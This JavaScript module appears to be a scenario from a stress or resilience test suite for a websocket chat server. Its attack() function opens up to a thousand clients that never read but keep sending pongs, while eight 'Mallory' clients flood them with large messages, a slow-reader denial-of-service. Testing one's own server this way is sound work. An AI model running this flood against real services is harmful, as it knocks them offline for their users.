// Readers that never read, but say that they live, while one of them makes the server write to all.
import { RawSocket, frame } from '../websocket.js';

export const what = '1,000 clients that never read, and send a pong every second';

const count = scale => Math.max(40, 1_000 * scale);
export const connections = scale => count(scale) + 8;

export async function attack({ target, seconds, scale }) {
  const end = Date.now() + seconds * 1000;
  const deaf = [];
  let closed = 0;
  for (let n = 0; n < count(scale) && Date.now() < end; n++) {
    const raw = await RawSocket.identified(target, { user: `deaf ${n % 20}`, presence: 'list' }).catch(() => null);
    if (!raw) continue;
    raw.deaf();
    raw.tcp.once('close', () => closed++);
    deaf.push(raw);
  }

  const pong = setInterval(() => deaf.forEach(raw => raw.isClosed || raw.tcp.write(frame('3'))), 1000);
  const talkers = await Promise.all(Array.from({ length: 8 }, (_, n) =>
    RawSocket.identified(target, { user: `Mallory ${n}`, presence: 'none' }).catch(() => null)));
  await Promise.all(talkers.filter(Boolean).map((raw, talker) => raw.flood((end - Date.now()) / 1000, n =>
    frame(`42${JSON.stringify(['im', { from: `Mallory ${talker}`, to: `deaf ${n % 20}`, text: 'x'.repeat(4000) }])}`))));
  await new Promise(resolve => setTimeout(resolve, Math.max(0, end - Date.now())));
  clearInterval(pong);
  deaf.forEach(raw => raw.tcp.destroy());
  talkers.forEach(raw => raw?.tcp.destroy());
  return { deaf: deaf.length, closed };
}
